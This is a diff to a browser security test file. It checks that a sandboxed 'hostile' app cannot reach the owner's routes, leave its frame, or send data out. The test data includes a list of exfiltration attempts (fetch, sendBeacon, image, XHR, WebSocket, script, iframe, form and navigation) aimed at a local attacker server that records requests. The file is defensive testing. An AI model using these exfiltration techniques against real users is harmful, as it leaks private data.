@@ -5,12 +5,15 @@ import { mkdirSync, rmSync, writeFileSync } from "node:fs";
 import { createServer } from "node:http";
 import { join } from "node:path";
 import { after, afterEach, before } from "node:test";
-import { app, requestAsOwner, closeBrowser, code, eventually, launchBrowser, mintSession, newVisitor, stack, test, waitUntilReady } from "./support.mjs";
+import {
+  app, closeBrowser, code, eventually, launchBrowser, mintSession, newVisitor, requestAsOwner, stack, test,
+  waitUntilReady,
+} from "./support.mjs";
 
 const SLUG = "hostile";
 const folder = join(stack.owner.home, "apps", SLUG);
 let chrome;
-let visits = [];
+let visitors = [];
 /** An attacker's site, which records all requests. */
 let attackerSite;
 const leakedRequests = [];
@@ -25,7 +28,7 @@ before(async () => {
     leakedRequests.push(request.url);
     response.writeHead(200, { "access-control-allow-origin": "*" }).end("thanks");
   });
-  await new Promise((listening) => attackerSite.listen(0, "127.0.0.1", listening));
+  await new Promise((resolve) => attackerSite.listen(0, "127.0.0.1", resolve));
   install();
   await eventually("the hostile app", async () => {
     const { apps } = JSON.parse((await requestAsOwner("/api/apps")).body);
@@ -39,8 +42,8 @@ after(async () => {
   rmSync(folder, { recursive: true, force: true });
 });
 afterEach(async () => {
-  await Promise.all(visits.map(({ context }) => context.close()));
-  visits = [];
+  await Promise.all(visitors.map(({ context }) => context.close()));
+  visitors = [];
 });
 
 function install(overrides = {}) {
@@ -52,19 +55,22 @@ function install(overrides = {}) {
   writeFileSync(join(folder, "svc.json"), JSON.stringify(manifest));
 }
 
+const findAppFrame = (page) => page.frames().find((frame) => frame.url().includes(`/apps/${SLUG}/~`));
+
+/** Opens the app's page as the owner, in a new browser context. */
 async function open() {
-  const visit = await newVisitor(chrome);
-  visits.push(visit);
+  const visitor = await newVisitor(chrome);
+  visitors.push(visitor);
   // The browser has a router session, and the owner's pages have stored data under this origin.
-  await visit.page.goto(`${app}/`);
-  await visit.page.evaluate(() => localStorage.setItem("owner", "secret"));
-  await visit.page.goto(`${app}/apps/${SLUG}/`);
+  await visitor.page.goto(`${app}/`);
+  await visitor.page.evaluate(() => localStorage.setItem("owner", "secret"));
+  await visitor.page.goto(`${app}/apps/${SLUG}/`);
   const frame = await eventually("the frame", async () => {
-    const found = visit.page.frames().find((frame) => frame.url().includes(`/apps/${SLUG}/~`));
-    assert.ok(found && (await found.evaluate(() => window.loaded)));
-    return found;
+    const appFrame = findAppFrame(visitor.page);
+    assert.ok(appFrame && (await appFrame.evaluate(() => window.loaded)));
+    return appFrame;
   });
-  return { ...visit, frame };
+  return { ...visitor, frame };
 }
 
 /** Evaluates an expression in the app's page: returns its value, or the name of its error. */
@@ -105,7 +111,8 @@ test("an app cannot use the owner's routes or other apps' pages and rows", async
     `fetch("/_svc/slots", ${withToken})`, `fetch("/_svc/slots", { credentials: "include" })`,
     `fetch("/_svc/app-token", { method: "POST", credentials: "include", body: '{"app":"notes"}' })`,
     `fetch("/_svc/sign-out", { method: "POST", credentials: "include" })`,
-    `fetch("/apps/notes/~${token}/")`, `fetch("/apps/notes/", ${withToken})`, `fetch("/apps/notes/", { credentials: "include" })`,
+    `fetch("/apps/notes/~${token}/")`, `fetch("/apps/notes/", ${withToken})`,
+    `fetch("/apps/notes/", { credentials: "include" })`,
     findRowsSource("notes"),
   ]) {
     const { error, value } = await attempt(frame, source);
@@ -116,8 +123,8 @@ test("an app cannot use the owner's routes or other apps' pages and rows", async
 
 test("an app cannot leave its frame or navigate it to another app", async () => {
   for (const source of [
-    `top.location = "${app}/?taken"`, `top.location.replace("${app}/?taken")`, `document.querySelector("#other").click()`,
-    `location.assign("/apps/notes/")`,
+    `top.location = "${app}/?taken"`, `top.location.replace("${app}/?taken")`,
+    `document.querySelector("#other").click()`, `location.assign("/apps/notes/")`,
   ]) {
     // A new page each time: after a refused navigation, the frame shows an error page, which runs no scripts.
     const { frame, page } = await open();
@@ -159,49 +166,84 @@ test("an app can send data only to the origins in its manifest", async () => {
   const { frame } = await open();
   const { port } = attackerSite.address();
   const site = `http://localhost:${port}`;
-  const attempts = [
-    `fetch("${site}/fetch?rows")`, `navigator.sendBeacon("${site}/beacon?rows", "x")`,
-    `new Promise((done) => { const image = new Image(); image.onload = image.onerror = done; image.src = "${site}/image?rows"; })`,
-    `new Promise((done) => { const xhr = new XMLHttpRequest(); xhr.onloadend = done; xhr.open("GET", "${site}/xhr"); xhr.send(); })`,
-    `new Promise((done) => { const socket = new WebSocket("ws://localhost:${port}/socket"); socket.onerror = socket.onopen = done; })`,
-    `new Promise((done) => { const link = document.createElement("link"); link.rel = "stylesheet"; link.href = "${site}/style"; link.onload = link.onerror = done; document.head.append(link); })`,
-    `new Promise((done) => { const script = document.createElement("script"); script.src = "${site}/script"; script.onload = script.onerror = done; document.head.append(script); })`,
-    `new Promise((done) => { const inner = document.createElement("iframe"); inner.src = "${site}/frame"; inner.onload = done; document.body.append(inner); setTimeout(done, 500); })`,
-    `new Promise((done) => { const form = document.createElement("form"); form.action = "${site}/form"; document.body.append(form); form.submit(); setTimeout(done, 500); })`,
+  const sources = [
+    `fetch("${site}/fetch?rows")`,
+    `navigator.sendBeacon("${site}/beacon?rows", "x")`,
     `import("${site}/module")`,
-    `new Promise((done) => { location.href = "${site}/navigation?rows"; setTimeout(done, 500); })`,
+    `new Promise((resolve) => {
+      const image = new Image();
+      image.onload = image.onerror = resolve;
+      image.src = "${site}/image?rows";
+    })`,
+    `new Promise((resolve) => {
+      const xhr = new XMLHttpRequest();
+      xhr.onloadend = resolve;
+      xhr.open("GET", "${site}/xhr");
+      xhr.send();
+    })`,
+    `new Promise((resolve) => {
+      const socket = new WebSocket("ws://localhost:${port}/socket");
+      socket.onerror = socket.onopen = resolve;
+    })`,
+    `new Promise((resolve) => {
+      const link = document.createElement("link");
+      Object.assign(link, { rel: "stylesheet", href: "${site}/style", onload: resolve, onerror: resolve });
+      document.head.append(link);
+    })`,
+    `new Promise((resolve) => {
+      const script = document.createElement("script");
+      Object.assign(script, { src: "${site}/script", onload: resolve, onerror: resolve });
+      document.head.append(script);
+    })`,
+    `new Promise((resolve) => {
+      const iframe = document.createElement("iframe");
+      Object.assign(iframe, { src: "${site}/frame", onload: resolve });
+      document.body.append(iframe);
+      setTimeout(resolve, 500);
+    })`,
+    `new Promise((resolve) => {
+      const form = document.createElement("form");
+      form.action = "${site}/form";
+      document.body.append(form);
+      form.submit();
+      setTimeout(resolve, 500);
+    })`,
+    `new Promise((resolve) => {
+      location.href = "${site}/navigation?rows";
+      setTimeout(resolve, 500);
+    })`,
   ];
-  for (const source of attempts) await attempt(frame, source).catch(() => undefined);
-  await new Promise((done) => setTimeout(done, 300));
+  for (const source of sources) await attempt(frame, source).catch(() => undefined);
+  await new Promise((resolve) => setTimeout(resolve, 300));
   assert.deepEqual(leakedRequests, []);
 
   install({ connect: ["https://api.example.com"] });
   await waitForConnect(["https://api.example.com"]);
-  const visit = await newVisitor(chrome);
-  visits.push(visit);
+  const visitor = await newVisitor(chrome);
+  visitors.push(visitor);
   const requestedUrls = [];
-  await visit.context.route("https://*.example.com/**", (route) => {
+  await visitor.context.route("https://*.example.com/**", (route) => {
     requestedUrls.push(route.request().url());
     return route.fulfill({ status: 200, headers: { "access-control-allow-origin": "*" }, body: "x" });
   });
-  await visit.page.goto(`${app}/`);
-  await visit.page.getByText("connects to api.example.com").waitFor();
-  await visit.page.goto(`${app}/apps/${SLUG}/`);
+  await visitor.page.goto(`${app}/`);
+  await visitor.page.getByText("connects to api.example.com").waitFor();
+  await visitor.page.goto(`${app}/apps/${SLUG}/`);
   await eventually("a request to the allowed origin", async () => {
-    const inner = visit.page.frames().find((frame) => frame.url().includes(`/apps/${SLUG}/~`));
-    assert.deepEqual(await attempt(inner, `fetch("https://api.example.com/a")`), { value: 200 });
+    assert.deepEqual(await attempt(findAppFrame(visitor.page), `fetch("https://api.example.com/a")`), { value: 200 });
   });
-  const inner = visit.page.frames().find((frame) => frame.url().includes(`/apps/${SLUG}/~`));
-  assert.ok((await attempt(inner, `fetch("https://other.example.com/a")`)).error);
-  assert.ok(requestedUrls.length > 0 && requestedUrls.every((url) => url.startsWith("https://api.example.com/")), requestedUrls.join(" "));
+  assert.ok((await attempt(findAppFrame(visitor.page), `fetch("https://other.example.com/a")`)).error);
+  const isAllowed = (url) => url.startsWith("https://api.example.com/");
+  assert.ok(requestedUrls.length > 0 && requestedUrls.every(isAllowed), requestedUrls.join(" "));
 });
 
 test("the browser's data is cleared when the account changes", async () => {
-  const visit = await newVisitor(chrome);
-  visits.push(visit);
-  const { page, context } = visit;
+  const visitor = await newVisitor(chrome);
+  visitors.push(visitor);
+  const { page, context } = visitor;
   await page.goto(app);
-  const worker = await page.evaluate(() => navigator.serviceWorker.register("/shell.js").then(() => "registered", String));
+  const worker = await page.evaluate(() =>
+    navigator.serviceWorker.register("/shell.js").then(() => "registered", String));
   assert.notEqual(worker, "registered");
   await page.evaluate(async () => {
     localStorage.setItem("left", "by the first account");
